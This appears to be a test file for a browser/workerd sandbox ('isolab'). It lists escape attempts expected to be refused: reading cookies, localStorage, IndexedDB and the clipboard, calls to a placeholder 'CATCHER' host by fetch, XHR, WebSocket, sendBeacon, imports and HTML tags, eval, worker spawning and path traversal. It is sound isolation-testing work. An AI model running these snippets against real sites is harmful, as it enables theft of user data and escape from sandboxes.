import { handler, NOTHING, REFUSED } from './attack.mjs';

/**
 * Ways to the page, its storage, other projects, and the network. `CATCHER` stands for the address of a server
 * that hears whoever comes.
 *
 * @type {readonly import('./attack.mjs').Attack[]}
 */
export const REACHING = [
  {
    tries: 'the page by parent',
    source: handler('return parent.document.title;'),
    comes: REFUSED,
  },
  { tries: 'the page by top', source: handler('return top.location.href;'), comes: REFUSED },
  { tries: 'a document', source: handler('return document.cookie;'), comes: REFUSED },
  {
    tries: 'a window, by the global object of a function',
    source: handler(`return typeof (0, eval)('this').window;`),
    comes: /^200 (got undefined|refused: )/,
  },
  {
    tries: 'the frame by postMessage of the global scope',
    source: handler(
      `postMessage({ type: 'terminate', thread: 1 }); return globalThis.postMessage({}, '*');`,
    ),
    comes: REFUSED,
  },
  {
    tries: 'the page by BroadcastChannel',
    source: handler(`
      const channel = new BroadcastChannel('isolab');
      channel.postMessage('hostile');
      return 'sent';`),
    comes: /^200 (got sent|refused: )/,
  },
  {
    tries: 'locks of the page, which say which tab has a project',
    source: handler(`return (await navigator.locks.query()).held.length;`),
    comes: REFUSED,
  },
  { tries: 'localStorage', source: handler('return localStorage.length;'), comes: REFUSED },
  {
    tries: 'sessionStorage',
    source: handler(`return sessionStorage.getItem('secret');`),
    comes: REFUSED,
  },
  {
    tries: "other projects, in the page's IndexedDB",
    source: handler(`
      return await new Promise((done, fail) => {
        const opening = indexedDB.open('keyval-store');
        opening.onsuccess = () => done('opened');
        opening.onerror = () => fail(opening.error);
      });`),
    comes: REFUSED,
  },
  {
    tries: "the browser's Cache Storage by its prototype",
    source: handler(`
      const { get } = Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'caches');
      return Object.keys(await get.call(self).keys());`),
    comes: REFUSED,
  },
  {
    tries: 'cookies by cookieStore',
    source: handler('return (await cookieStore.getAll()).length;'),
    comes: REFUSED,
  },
  {
    tries: 'files of the origin',
    source: handler('return (await navigator.storage.getDirectory()).name;'),
    comes: REFUSED,
  },
  {
    tries: 'service workers',
    source: handler(`return await navigator.serviceWorker.register('/sw.js');`),
    comes: REFUSED,
  },
  {
    tries: 'permissions',
    source: handler(`return (await navigator.permissions.query({ name: 'geolocation' })).state;`),
    comes: REFUSED,
  },
  {
    tries: 'the network by fetch',
    source: handler(`return (await fetch('CATCHER/fetch')).status;`),
    comes: REFUSED,
  },
  {
    tries: "the network by the browser's own fetch, from a prototype",
    source: handler(`
      const found = Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'fetch')
        ?? Object.getOwnPropertyDescriptor(Object.getPrototypeOf(self), 'fetch');
      return (await found.value.call(self, 'CATCHER/own-fetch')).status;`),
    comes: REFUSED,
  },
  {
    tries: 'the network by XMLHttpRequest',
    source: handler(`
      const request = new XMLHttpRequest();
      request.open('GET', 'CATCHER/xhr', false);
      request.send();
      return request.status;`),
    comes: REFUSED,
  },
  {
    tries: 'the network by importScripts',
    source: handler(`importScripts('CATCHER/scripts.js'); return 'loaded';`),
    comes: REFUSED,
  },
  {
    tries: 'the network by a dynamic import',
    source: handler(`return Object.keys(await import('CATCHER/' + 'import.js'));`),
    comes: REFUSED,
  },
  {
    tries: 'the network by an import of a data: module that imports',
    source: handler(`
      const nested = 'import "' + 'CATCHER/nested.js' + '"';
      return Object.keys(await import('data:text/javascript,' + encodeURIComponent(nested)));`),
    comes: REFUSED,
  },
  {
    tries: 'the network by a WebSocket',
    source: handler(`
      const socket = new WebSocket('CATCHER/socket'.replace('http', 'ws'));
      await new Promise((opened, failed) => {
        socket.addEventListener('open', opened);
        socket.addEventListener('error', () => failed(new Error('no connection')));
      });
      return 'open';`),
    comes: REFUSED,
  },
  {
    tries: 'the network by an EventSource',
    source: handler(`
      const source = new EventSource('CATCHER/events');
      await new Promise((opened, failed) => {
        source.onopen = opened;
        source.onerror = () => failed(new Error('no connection'));
      });
      return 'open';`),
    comes: REFUSED,
  },
  {
    tries: 'the network by sendBeacon',
    source: handler(`return navigator.sendBeacon('CATCHER/beacon', 'secret');`),
    comes: /^200 (refused: |got false|got undefined)/,
  },
  {
    tries: 'the network by WebRTC',
    source: handler(`
      const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] });
      return connection.connectionState;`),
    comes: REFUSED,
  },
  {
    tries: 'the network by WebTransport',
    source: handler(`
      const transport = new WebTransport('https://127.0.0.1:9/');
      await transport.ready;
      return 'ready';`),
    comes: REFUSED,
  },
  {
    tries: 'the network by a CSS font',
    source: handler(`
      const font = new FontFace('spy', "url('CATCHER/font.woff')");
      await font.load();
      return font.status;`),
    comes: REFUSED,
  },
  {
    tries: 'the network by the stylesheet of an HTML response, shown in its frame',
    source: `export default { fetch: () => new Response(
      '<link rel="dns-prefetch" href="CATCHER"><link rel="preconnect" href="CATCHER"><link rel="stylesheet" href="CATCHER/css"><style>@import "CATCHER/import.css"; body { background: url(CATCHER/background) }</style><img src="CATCHER/image"><iframe src="CATCHER/frame"></iframe><form action="CATCHER/form"></form><meta http-equiv="refresh" content="0;url=CATCHER/refresh"><script>fetch("CATCHER/script")</script>',
      { headers: { 'content-type': 'text/html' } },
    ) };`,
    comes: /^200 <link/,
  },
  {
    tries: "to learn of the page's hosts by how long they take",
    source: handler(`
      const times = [];
      for (const host of ['https://esm.sh/', 'CATCHER/time']) {
        const began = performance.now();
        await fetch(host, { mode: 'no-cors' }).catch(() => {});
        times.push(performance.now() - began > 50);
      }
      return times.includes(true);`),
    comes: /^200 (got false|refused: )/,
  },
  {
    tries: 'code by eval',
    source: handler(`return eval('1 + 1');`),
    comes: /^200 refused: EvalError/,
  },
  {
    tries: 'code by a constructor of functions that nobody took away',
    source: handler(`return (async () => {}).constructor('return 1')();`),
    comes: /^200 refused: /,
  },
  {
    tries: 'a worker of its own',
    source: handler(`return new Worker('data:text/javascript,postMessage(1)');`),
    comes: REFUSED,
  },
  {
    tries: 'a worker of its own from a blob',
    source: handler(`
      const url = URL.createObjectURL(new Blob(['postMessage(1)']));
      return new Worker(url);`),
    comes: REFUSED,
  },
  {
    tries: 'a shared worker, which other tabs would share',
    source: handler(`return new SharedWorker('data:text/javascript,');`),
    comes: REFUSED,
  },
  {
    tries: 'notifications',
    source: handler(`return new Notification('hostile');`),
    comes: REFUSED,
  },
  {
    tries: "the page's clipboard",
    source: handler('return await navigator.clipboard.readText();'),
    comes: REFUSED,
  },
  {
    tries: 'the device',
    source: handler('return await navigator.usb.getDevices();'),
    comes: REFUSED,
  },
  {
    tries: "the page's files, by a path that leaves the project",
    source: handler(`return await import('../../../../look.js');`),
    comes: /^(200 refused: |\w*Error: |ProjectError: )/,
  },
  {
    tries: 'the address that the page has its link in',
    source: handler('return location.hash + self.location.href;'),
    comes: /^200 (refused: |got (undefined|blob:null|isolab))/,
  },
];

/** @type {readonly import('./attack.mjs').Attack[]} */
export const HIDDEN = ['close', 'onmessage', 'importScripts', 'registration', 'SharedWorker'].map(
  (name) => ({
    tries: `${name}, which a Web Worker has and workerd has not`,
    source: handler(`return typeof globalThis.${name} === 'undefined' ? undefined : 'there';`),
    comes: NOTHING,
  }),
);
